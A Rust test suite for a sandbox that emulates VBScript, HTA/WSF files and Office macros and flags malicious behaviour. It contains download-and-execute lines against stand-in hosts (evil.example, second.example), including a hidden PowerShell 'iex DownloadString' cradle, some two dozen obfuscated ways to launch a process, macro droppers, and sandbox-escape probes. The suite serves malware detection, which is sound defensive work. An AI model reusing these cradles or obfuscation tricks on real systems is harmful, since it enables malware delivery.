//! Visual Basic that is run: VBScript in all that it comes in, macros of documents, and what tries to get out of it or never ends.

#![allow(clippy::unwrap_used, clippy::expect_used)]

mod support;

use postern_model::sandbox::Report;
use support::documents::{document, program, project_of};
use support::{done, has, names, run, show};

const DROPPER: &str = include_str!("basic/dropper.vbs");
const LOGON: &str = include_str!("basic/logon.vbs");
const MACRO: &str = include_str!("basic/macro.bas");
const FORMAT: &str = include_str!("basic/format.bas");

fn vbs(source: &str) -> Report {
    run("a.vbs", source.as_bytes())
}

fn docm(modules: &[(&str, &str)]) -> Report {
    run("letter.docm", &document(&[("word/vbaProject.bin", &project_of("", modules))]))
}

fn errors(report: &Report) -> Vec<&str> {
    done(report).into_iter().filter(|(action, _)| *action == "error").map(|(_, text)| text).collect()
}

/// What a script shows.
fn shown(source: &str) -> Vec<String> {
    let report = vbs(source);
    assert_eq!(errors(&report), [] as [&str; 0], "{source}: {}", show(&report));
    done(&report).into_iter().filter(|(action, _)| *action == "show").map(|(_, text)| text.to_owned()).collect()
}

#[test]
fn a_dropper_shows_what_it_loads_writes_and_starts() {
    let report = vbs(DROPPER);
    let steps: Vec<_> = done(&report).into_iter().filter(|(action, _)| !matches!(*action, "object" | "call")).collect();
    let path = "C:\\Users\\erika\\AppData\\Local\\Temp\\update.exe";
    let command = format!("cmd /c start \"\" \"{path}\"");
    assert_eq!(
        steps,
        [("wait", "90000 ms"), ("load", "GET http://evil.example/a.exe"), ("write", path), ("start", command.as_str())],
        "{}",
        show(&report)
    );
    for name in ["SCRIPT", "SCRIPT_LOADS", "SCRIPT_WRITES", "SCRIPT_STARTS", "SCRIPT_DROPPER", "SCRIPT_WAITS", "SCRIPT_SUSPICIOUS"] {
        assert!(has(&report, name), "{name}: {}", show(&report));
    }
    assert_eq!(report.contacted(), ["evil.example"]);
}

/// Each of them starts the calculator.
#[test]
fn every_way_to_hide_and_to_start() {
    for source in [
        "CreateObject(\"WScript.Shell\").Run \"calc.exe\"",
        "set S = wscript.createOBJECT(\"wscript.shell\") : S.rUn (\"calc\") & \".exe\", 0, true",
        "CreateObject(Chr(87) & Chr(83) & ChrW(&H63) & \"ript.Shell\").Exec StrReverse(\"exe.clac\")",
        "Set o = GetObject(\"winmgmts:\\\\.\\root\\cimv2:Win32_Process\") : o.Create \"calc.exe\", Null, Null, pid",
        "GetObject(\"winmgmts:\").Get(\"Win32_Process\").Create(\"calc.exe\")",
        "CreateObject(\"Shell.Application\").ShellExecute \"calc.exe\", \"\", \"\", \"open\", 0",
        "Execute(\"CreateObject(\"\"WScript.Shell\"\").Run \"\"calc.exe\"\"\")",
        "ExecuteGlobal \"Sub Go : CreateObject(\"\"WScript.Shell\"\").Run c : End Sub\" : c = \"calc.exe\" : Go",
        "Sub Go(c) : Dim s : Set s = CreateObject(\"WScript.Shell\") : Execute \"s.Run c & \"\".exe\"\"\" : End Sub\nGo \"calc\"",
        "x = Array(102, 100, 105, 102, 43, 96, 125, 96)\nFor i = 0 To UBound(x)\ns = s & Chr(x(i) Xor 5)\nNext\nCreateObject(\"WScript.Shell\").Run s",
        "s = Join(Split(\"c#a#l#c#.#e#x#e\", \"#\"), \"\") : CreateObject(\"WScript.Shell\").Run s",
        "s = Replace(Replace(\"c@lc!exe\", \"@\", \"a\"), \"!\", \".\") : CreateObject(\"WScript.Shell\").Run(s)",
        "h = \"63616C632E657865\" : For i = 1 To Len(h) Step 2 : s = s & Chr(CLng(\"&H\" & Mid(h, i, 2))) : Next : CreateObject(\"WScript.Shell\").Run s",
        "Class Runner\nPrivate what\nPublic Property Let Command(v) : what = v : End Property\nPublic Default Function Go() : CreateObject(\"WScript.Shell\").Run what : End Function\nEnd Class\nSet r = New Runner : r.Command = \"calc.exe\" : r.Go",
        "Set d = CreateObject(\"Scripting.Dictionary\") : d(\"a\") = \"calc\" : d.Add \"b\", \".exe\" : For Each k In d.Keys : s = s & d.Item(k) : Next : CreateObject(\"WScript.Shell\").Run s",
        "Do While n < 3 : n = n + 1 : If n = 2 Then Exit Do\nLoop\nSelect Case n\nCase 1, 3 : x = \"no\"\nCase Is > 1 : x = \"calc.exe\"\nEnd Select\nCreateObject(\"WScript.Shell\").Run x",
        "Function Twice(ByRef a, ByVal b) : a = a & \".exe\" : b = \"\" : End Function\nx = \"calc\" : y = x : Twice x, y : CreateObject(\"WScript.Shell\").Run Left(x, 99)",
        "On Error Resume Next : x = 1 / 0 : If Err.Number = 11 Then CreateObject(\"WScript.Shell\").Run \"calc.exe\"",
        "Set r = New RegExp : r.Pattern = \"[0-9]\" : r.Global = True : CreateObject(\"WScript.Shell\").Run r.Replace(\"1c2a3lc.4exe\", \"\")",
        "Set d = CreateObject(\"MSXML2.DOMDocument\").createElement(\"b\") : d.dataType = \"bin.base64\" : d.text = \"Y2FsYy5leGU=\" : Set s = CreateObject(\"ADODB.Stream\") : s.Type = 1 : s.Open : s.Write d.nodeTypedValue : s.Position = 0 : s.Type = 2 : CreateObject(\"WScript.Shell\").Run s.ReadText",
        "Set c = CreateObject(\"MSScriptControl.ScriptControl\") : c.Language = \"VBScript\" : c.AddCode \"Sub Go : CreateObject(\"\"WScript.Shell\"\").Run \"\"calc.exe\"\" : End Sub\" : c.Run \"Go\"",
        "GetRef(\"Go\")()\nSub Go\nWith CreateObject(\"WScript.Shell\")\n.Run \"calc\" _\n & \".exe\"\nEnd With\nEnd Sub",
        "Dim a() : ReDim a(1) : a(0) = \"calc\" : ReDim Preserve a(2) : a(2) = \".exe\" : CreateObject(\"WScript.Shell\").Run a(0) + a(2)",
        "if eval(\"1 + 1 = 2\") then CreateObject(\"WScript.Shell\").Run \"calc.exe\" else WScript.Quit",
        "<!--\nCreateObject(\"WScript.Shell\").Run \"calc.exe\"\n'-->",
    ] {
        let report = vbs(source);
        assert!(done(&report).contains(&("start", "calc.exe")) && has(&report, "SCRIPT_STARTS"), "{source}: {}", show(&report));
        assert_eq!(errors(&report), [] as [&str; 0], "{source}");
    }
}

#[test]
fn every_way_that_it_comes_in() {
    let body = "CreateObject(\"WScript.Shell\").Run \"calc.exe\"";
    let wide: Vec<u8> = [0xff, 0xfe].into_iter().chain(body.encode_utf16().flat_map(u16::to_le_bytes)).collect();
    for (name, content) in [
        ("a.VBS", wide),
        ("a.vbe", body.as_bytes().to_vec()),
        ("a.wsf", format!("<job><script language=\"VBScript\"><![CDATA[{body}]]></script></job>").into_bytes()),
        ("a.wsf", format!("<job><script language='VBScript'>Sub Go : {body} : End Sub</script><script language='JScript'>Go()</script></job>").into_bytes()),
        ("a.hta", format!("<html><hta:application><script language=vbscript>{body}</script></html>").into_bytes()),
        ("a.hta", format!("<html><script language=vbscript>Sub Window_OnLoad\n{body}\nEnd Sub</script><body></body></html>").into_bytes()),
        ("a.hta", format!("<html><script language=vbscript>Sub Go\n{body}\nEnd Sub</script><body onload='Go'></body></html>").into_bytes()),
        ("a.hta", format!("<html><script language=vbscript>Sub b_onclick\n{body}\nEnd Sub</script><body><input id=b type=button></body></html>").into_bytes()),
        ("a.hta", format!("<html><body><p id=data>{body}</p><script language=vbscript>Execute document.getelementbyid(\"data\").innerTEXT\nwindow.close</script></body></html>").into_bytes()),
        ("a.html", format!("<html><script language=vbscript>{body}</script></html>").into_bytes()),
        ("a.js", format!("var s = new ActiveXObject('ScriptControl'); s.Language = 'VBScript'; s.AddCode('{body}')").into_bytes()),
    ] {
        let report = run(name, &content);
        assert!(done(&report).contains(&("start", "calc.exe")), "{name} {}: {}", String::from_utf8_lossy(&content), show(&report));
    }
    let report = run("a.vbe", b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@");
    assert_eq!(done(&report), [("decoded", "MsgBox \"Hello\""), ("show", "Hello")], "{}", show(&report));
}

#[test]
fn what_it_carries_is_dropped_and_taken_apart() {
    let digits: String = program().iter().map(|b| format!("{b:02X}")).collect();
    let source = format!(
        "h = \"{digits}\"\nSet f = CreateObject(\"Scripting.FileSystemObject\")\nSet t = f.CreateTextFile(\"C:\\Users\\Public\\run.exe\", True)\n\
         For i = 1 To Len(h) Step 2\nt.Write Chr(CByte(\"&H\" & Mid(h, i, 2)))\nNext\nt.Close\nCreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\run.exe\""
    );
    let report = vbs(&source);
    assert!(has(&report, "PROGRAM") && has(&report, "SCRIPT_DROPPER") && !has(&report, "SCRIPT_STOPPED"), "{}", show(&report));
    assert!(report.parts.iter().any(|p| p.name == "run.exe" && p.size == 300), "{}", show(&report));
    let report = docm(&[(
        "ThisDocument",
        "Attribute VB_Name = \"ThisDocument\"\nSub AutoOpen()\nDim b() As Byte, n As Integer\nn = FreeFile\nb = StrConv(\"WScript.Echo \"\"second\"\"\", vbFromUnicode)\n\
         Open Environ(\"APPDATA\") & \"\\next.vbs\" For Binary Access Write As #n\nPut #n, , b\nClose #n\nShell \"wscript next.vbs\"\nEnd Sub",
    )]);
    assert!(done(&report).contains(&("show", "second")) && has(&report, "SCRIPT_DROPPER"), "{}", show(&report));
}

#[test]
fn a_macro_shows_what_it_does() {
    for (name, content) in [
        ("letter.doc", project_of("/Macros", &[("ThisDocument", MACRO)])),
        ("letter.docm", document(&[("word/vbaProject.bin", &project_of("", &[("ThisDocument", MACRO)]))])),
    ] {
        let report = run(name, &content);
        let path = "C:\\Users\\erika\\AppData\\Local\\Temp\\Update4.exe";
        let quoted = format!("\"{path}\"");
        let steps: Vec<_> = done(&report).into_iter().filter(|(action, _)| !matches!(*action, "object" | "call" | "ask")).collect();
        assert_eq!(
            steps,
            [
                ("wait", "30000 ms"),
                ("load", "GET http://evil.example/x"),
                ("write", path),
                ("start", quoted.as_str()),
                ("start", "powershell -nop -w hidden -c \"iex (New-Object Net.WebClient).DownloadString('https://second.example/p')\""),
                ("load", "GET https://second.example/p"),
                ("show", "The document is damaged (513)."),
            ],
            "{}",
            show(&report)
        );
        for name in ["MACROS", "MACRO_AUTOSTART", "MACRO_SUSPICIOUS", "SCRIPT_LOADS", "SCRIPT_STARTS", "SCRIPT_DROPPER", "COMMAND_LOADS"] {
            assert!(has(&report, name), "{name}: {}", show(&report));
        }
    }
}

#[test]
fn modules_are_one_world() {
    let report = docm(&[
        (
            "ThisDocument",
            "Attribute VB_Name = \"ThisDocument\"\nPrivate Sub Document_Open()\nprogram = \"calc\"\nDim r As New Runner\nModule1.Prepare\nr.Start program\nEnd Sub",
        ),
        (
            "Module1",
            "Attribute VB_Name = \"Module1\"\nPublic program As String\nPublic Sub Prepare()\nprogram = program & \".exe\"\nEnd Sub",
        ),
        (
            "Runner",
            "Attribute VB_Name = \"Runner\"\nAttribute VB_PredeclaredId = False\nPrivate shell As Object\nPrivate Sub Class_Initialize()\nSet shell = CreateObject(\"WScript.Shell\")\nEnd Sub\n\
             Public Sub Start(ByVal what As String)\nshell.Run what\nEnd Sub",
        ),
    ]);
    assert!(done(&report).contains(&("start", "calc.exe")), "{}", show(&report));
    assert_eq!(errors(&report), [] as [&str; 0], "{}", show(&report));
}

#[test]
fn values_are_those_of_visual_basic() {
    for (expression, value) in [
        ("1 + \"2\"", "3"),
        ("\"1\" + \"2\"", "12"),
        ("\"1\" & 2 & True", "12True"),
        ("7 \\ 2 & 7 Mod 4 & 2 ^ 3 & -2 ^ 2", "338-4"),
        ("CInt(2.5) & CInt(3.5) & Int(-1.5) & Fix(-1.5)", "24-2-1"),
        ("10 / 4", "2.5"),
        ("0.1 + 0.2", "0.3"),
        ("Not 5 = 5", "False"),
        ("5 And 3", "1"),
        ("5 Xor 3", "6"),
        ("True Imp False", "False"),
        ("Not 0", "-1"),
        ("\"abc\" Like \"a*c\"", "True"),
        ("Hex(255) & Hex(-1) & Oct(8)", "FFFFFF10"),
        ("Mid(\"hello\", 2, 3) & Right(\"hello\", 2)", "elllo"),
        ("InStr(\"hello\", \"l\") & InStr(4, \"hello\", \"l\") & InStrRev(\"hello\", \"l\")", "344"),
        ("InStr(1, \"HELLO\", \"l\", 1)", "3"),
        ("UBound(Split(\"a b c\")) & Join(Array(1, 2), \"-\")", "21-2"),
        ("TypeName(1) & TypeName(\"\") & TypeName(Empty) & TypeName(Null)", "IntegerStringEmptyNull"),
        ("IsNumeric(\"1e3\") & IsNumeric(\"x\")", "TrueFalse"),
        ("UCase(\"a\") & LCase(\"B\") & Trim(\" c \") & Space(1) & String(2, \"d\")", "Abc dd"),
        ("StrReverse(\"abc\") & Asc(\"A\") & AscW(ChrW(8364))", "cba658364"),
        ("Val(\"12abc\") & CStr(&HFF) & CLng(\"&H10\")", "1225516"),
        ("DateAdd(\"d\", 1, #12/31/2026#)", "1/1/2027"),
        ("Year(#2026-05-04#) & Month(\"5/4/2026\") & DateDiff(\"d\", #1/1/2026#, #1/3/2026#)", "202652"),
        ("Replace(\"aXbX\", \"x\", \"-\", 1, -1, 1)", "a-b-"),
        ("LenB(\"ab\") & Len(1234)", "44"),
        ("vbCrLf = Chr(13) & Chr(10)", "True"),
        ("Empty = 0 And Empty = \"\"", "True"),
        ("3 > 2 And \"b\" > \"a\" And \"10\" = 10", "True"),
        ("Round(2.567, 2) & Abs(-3) & Sgn(-2)", "2.573-1"),
        ("Unescape(\"%41%u0042\")", "AB"),
    ] {
        assert_eq!(shown(&format!("WScript.Echo {expression}")), [value], "{expression}");
    }
}

#[test]
fn statements_are_those_of_visual_basic() {
    for (source, values) in [
        ("For i = 3 To 1 Step -1 : s = s & i : Next : WScript.Echo s", &["321"][..]),
        ("For i = 1 To 3\nFor j = 1 To 3\nIf j = 2 Then Exit For\ns = s & i & j\nNext\nNext\nWScript.Echo s", &["112131"]),
        ("Do\nn = n + 1\nLoop Until n >= 4\nWhile n < 6\nn = n + 1\nWend\nWScript.Echo n", &["6"]),
        ("If False Then\nElseIf 1 = 2 Then\nx = 1\nElse\nx = 2\nEnd If\nIf x = 2 Then WScript.Echo \"a\" Else WScript.Echo \"b\"", &["a"]),
        ("Dim a(2, 1)\na(2, 1) = 5\nWScript.Echo a(2, 1) & UBound(a) & UBound(a, 2)", &["521"]),
        ("a = Array(1, 2)\nb = a\nb(0) = 9\nWScript.Echo a(0)", &["1"]),
        ("Function F(n)\nIf n < 2 Then\nF = 1\nElse\nF = n * F(n - 1)\nEnd If\nEnd Function\nWScript.Echo F(5)", &["120"]),
        ("Sub P(a)\nj = 100\na = a + j\nEnd Sub\nFor i = 1 To 2 : x = i : P x : WScript.Echo x : Next", &["101", "102"]),
        (
            "On Error Resume Next\nErr.Raise 5\nWScript.Echo Err.Number\nErr.Clear\nWScript.Echo Err.Number\nSet o = Nothing\nIf o.x Then WScript.Echo \"gone into\"",
            &["5", "0", "gone into"],
        ),
        ("Const A = 1, B = \"x\"\nWScript.Echo A & B", &["1x"]),
        ("x = 1 : [y z] = 2 : größe = 3\nWScript.Echo x + [Y Z] + GRÖSSE + GRÖßE", &["6"]),
    ] {
        assert_eq!(shown(source), values, "{source}");
    }
    let source = "Attribute VB_Name = \"M\"\nSub Auto_Open()\nDim n As Integer\nAgain:\nn = n + 1\nIf n < 3 Then GoTo Again\nOn Error Resume Next\nMsgBox CStr(n)\nDim t(1 To 3) As Long, i As Integer, j As Integer\n\
                  For i = 1 To 3: For j = 1 To 2\nt(i) = t(i) + j\nNext j, i\nMsgBox CStr(t(3)) & LBound(t) & UBound(t)\nDim s As String * 4\nMsgBox TypeName(n) & IIf(n = 3, \"y\", \"n\")\n\
                  x& = 5: MsgBox x& & Choose(2, \"a\", \"b\")\nActiveSheet.Range(\"B2\").Value = \"cell\"\nMsgBox Cells(2, 2).Text & Range(\"B2\")\nCall Named(second:=\"2\", first:=\"1\")\nApplication.Run \"Module1.Later\"\nEnd Sub\n\
                  Sub Named(first, Optional second = \"x\")\nMsgBox first & second\nEnd Sub\nSub Later()\nMsgBox \"later\"\nEnd Sub";
    let report = docm(&[("M", source)]);
    let values: Vec<_> = done(&report).into_iter().filter(|(action, _)| *action == "show").map(|(_, text)| text).collect();
    assert_eq!(values, ["3", "313", "Integery", "5b", "cellcell", "12", "later"], "{}", show(&report));
}

#[test]
fn what_is_honest_says_little() {
    let report = vbs(LOGON);
    assert_eq!(names(&report), ["SCRIPT"], "{}", show(&report));
    assert_eq!(errors(&report), [] as [&str; 0], "{}", show(&report));
    assert!(done(&report).contains(&("call", "WScript.Network.MapNetworkDrive")));
    let report = run("sums.xlsm", &document(&[("xl/vbaProject.bin", &project_of("", &[("ThisWorkbook", FORMAT)]))]));
    assert_eq!(names(&report), ["MACROS", "MACRO_AUTOSTART"], "{}", show(&report));
    assert_eq!(errors(&report), [] as [&str; 0], "{}", show(&report));
}

#[test]
fn what_cannot_be_read_is_said_with_its_line_and_the_rest_is_run() {
    let report = vbs("x = 1\ny = = 2\nCreateObject(\"WScript.Shell\").Run \"calc.exe\"\nIf x Then\nz = (1 + \nEnd If\nCall Missing(1)");
    assert!(done(&report).contains(&("start", "calc.exe")), "{}", show(&report));
    let errors = errors(&report);
    assert!(errors[0].starts_with("line 2: ") && errors[1].starts_with("line 5: ") && errors[2].starts_with("line 7: "), "{errors:?}");
    let report = vbs(&"this is ( no script ).\n".repeat(100));
    assert!(report.is_sound() && show(&report).contains("not run"), "{}", show(&report));
}

/// Nothing of a source becomes anything but names and texts: what would be seen is a file.
#[test]
fn no_source_gets_past_the_translation() {
    let act = "new ActiveXObject('WScript.Shell').Run('calc.exe')";
    for source in [
        format!("x = \"\\\");{act};//\""),
        format!("x = \"\u{2028}{act}\u{2029}\""),
        format!("[a];{act};//] = 1"),
        format!("[a]={act};b] = 1 : WScript.Echo [a]={act};b]"),
        format!("Sub [f(){{}});{act};(function()]\nEnd Sub"),
        format!("Class [\\\",()=>0);{act};//]\nEnd Class"),
        format!("Execute \"x = \"\"\\\\\"\");{act}//\"\"\""),
        format!("` ${{{act}}} `"),
        format!("x = 1 /*\n{act}\n*/"),
        format!("On Error GoTo [0;{act}]\nGoTo [{act}]"),
        format!("x.[constructor].[constructor](\"{act}\")()"),
        format!("Set f = GetRef(\"constructor\") : x = f(\"{act}\")"),
        format!("Dim s : s = \"a\" : x = s.constructor.constructor(\"{act}\")()"),
        format!("Set h = GetRef(\"f\") : x = h.constructor(\"{act}\")()\nSub f\nEnd Sub"),
        format!("x = Array(1) : y = x.constructor.constructor(\"{act}\")() : Set z = Nothing : z.__proto__ = 1"),
        format!("Set d = CreateObject(\"Scripting.Dictionary\") : x = d.constructor.constructor(\"{act}\")() : d.call d, \"{act}\""),
        format!("x = Eval(\"this.constructor.constructor('{act}')()\")"),
        format!("__proto__ = 1 : constructor \"{act}\" : tostring = 2 : Set x = New constructor"),
        format!("$vb.run \"{act}\"\n$g.x = 1\neval(\"{act}\")"),
        format!("Function(\"{act}\")()"),
        format!("#1/1/2026#);{act};//#"),
    ] {
        let report = vbs(&source);
        assert!(!done(&report).iter().any(|(action, _)| *action == "start"), "{source}: {}", show(&report));
        assert!(report.is_sound());
    }
}

/// Each of these ends soon, with what was seen before.
#[test]
fn scripts_without_an_end_are_ended() {
    let first = "CreateObject(\"WScript.Shell\").Run \"calc.exe\"\n";
    for (what, source) in [
        ("a loop", "Do\nLoop".to_owned()),
        ("a loop that passes errors over", "On Error Resume Next\nDo While True\nx = 1 / 0\nLoop".to_owned()),
        ("a loop by its condition", "On Error Resume Next\nSet o = Nothing\nWhile o.x\nWend".to_owned()),
        ("a flood", "Do : n = n + 1 : WScript.Echo n : Loop".to_owned()),
        ("text without end", "s = \"x\" : Do : s = s & s : Loop".to_owned()),
        ("an array without end", "Dim a() : Do : n = n + 100000 : ReDim Preserve a(n) : Loop".to_owned()),
        ("calls without end", "Sub F : F : End Sub\nF".to_owned()),
        ("layers without end", "Sub F(n) : Execute \"F \" & (n + 1) : End Sub\nF 1".to_owned()),
        ("the clock", "t = Timer : Do While Timer - t < 1000 : Loop".to_owned()),
        ("brackets", format!("x = {}1{}", "(".repeat(5000), ")".repeat(5000))),
        ("signs", format!("x = {}1", "- ".repeat(50_000))),
        ("not", format!("x = {}1", "Not ".repeat(50_000))),
        ("blocks", "If True Then\n".repeat(5000)),
        ("lines", format!("If True Then {} x = 1", "If True Then ".repeat(5000))),
        ("members", format!("x = a{}", ".b".repeat(50_000))),
        ("calls of calls", format!("x = {}1{}", "Chr(".repeat(3000), ")".repeat(3000))),
    ] {
        let began = std::time::Instant::now();
        let report = vbs(&format!("{first}{source}"));
        assert!(has(&report, "SCRIPT_STARTS"), "{what}: {}", show(&report));
        assert!(report.is_sound(), "{what}");
        println!("{what}: {:?}, {} events, {:?}", began.elapsed(), report.timeline.len(), report.timeline.last());
    }
}

#[test]
fn long_chains_are_no_depth() {
    let codes: Vec<String> = (0..5000).map(|_| "Chr(99)".to_owned()).collect();
    let cases: String = (0..2000).map(|n| format!("Case {n} : x = {n}\n")).collect();
    let source = format!(
        "s = {}\nt = {}\nSelect Case 1999\n{cases}End Select\nWScript.Echo Len(s) & Len(t) & x",
        codes.join(" & "),
        codes.join("+")
    );
    assert_eq!(shown(&source), ["500050001999"]);
}

/// Samples with pieces taken out, doubled and changed: nothing of it is a fault of ours.
#[test]
fn no_source_breaks_the_translation() {
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut random = |below: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        usize::try_from(state % below as u64).unwrap()
    };
    let pieces = [
        "(",
        ")",
        "\"",
        "\n",
        ":",
        " _\n",
        "End Sub\n",
        "If ",
        "Then",
        ".",
        "#",
        "&H",
        "Sub ",
        "[",
        "]",
        ",",
        "=",
        "Next",
        "With x\n",
        "Select Case ",
        "On Error Resume Next\n",
        "é",
        "\u{feff}",
        "Case ",
    ];
    for round in 0..300 {
        let sample = [DROPPER, LOGON, MACRO, FORMAT][round % 4];
        let mut letters: Vec<char> = sample.chars().collect();
        for _ in 0..=random(6) {
            let (at, length) = (random(letters.len()), random(40));
            let end = (at + length).min(letters.len());
            match random(3) {
                0 => drop(letters.drain(at..end)),
                1 => drop(letters.splice(at..at, pieces[random(pieces.len())].chars())),
                _ => {
                    let copy = letters[at..end].to_vec();
                    drop(letters.splice(at..at, copy));
                }
            }
        }
        let source: String = letters.into_iter().filter(|c| u32::from(*c) < 256).collect();
        let report = if round % 4 < 2 { vbs(&source) } else { docm(&[("ThisDocument", &source)]) };
        assert!(report.is_sound());
        // The engine understands all that is written for it.
        let broken = errors(&report)
            .into_iter()
            .find(|e| e.contains("SyntaxError") || e.contains("ReferenceError") || e.contains("the engine gave up"));
        assert_eq!(broken, None, "{source}");
    }
}
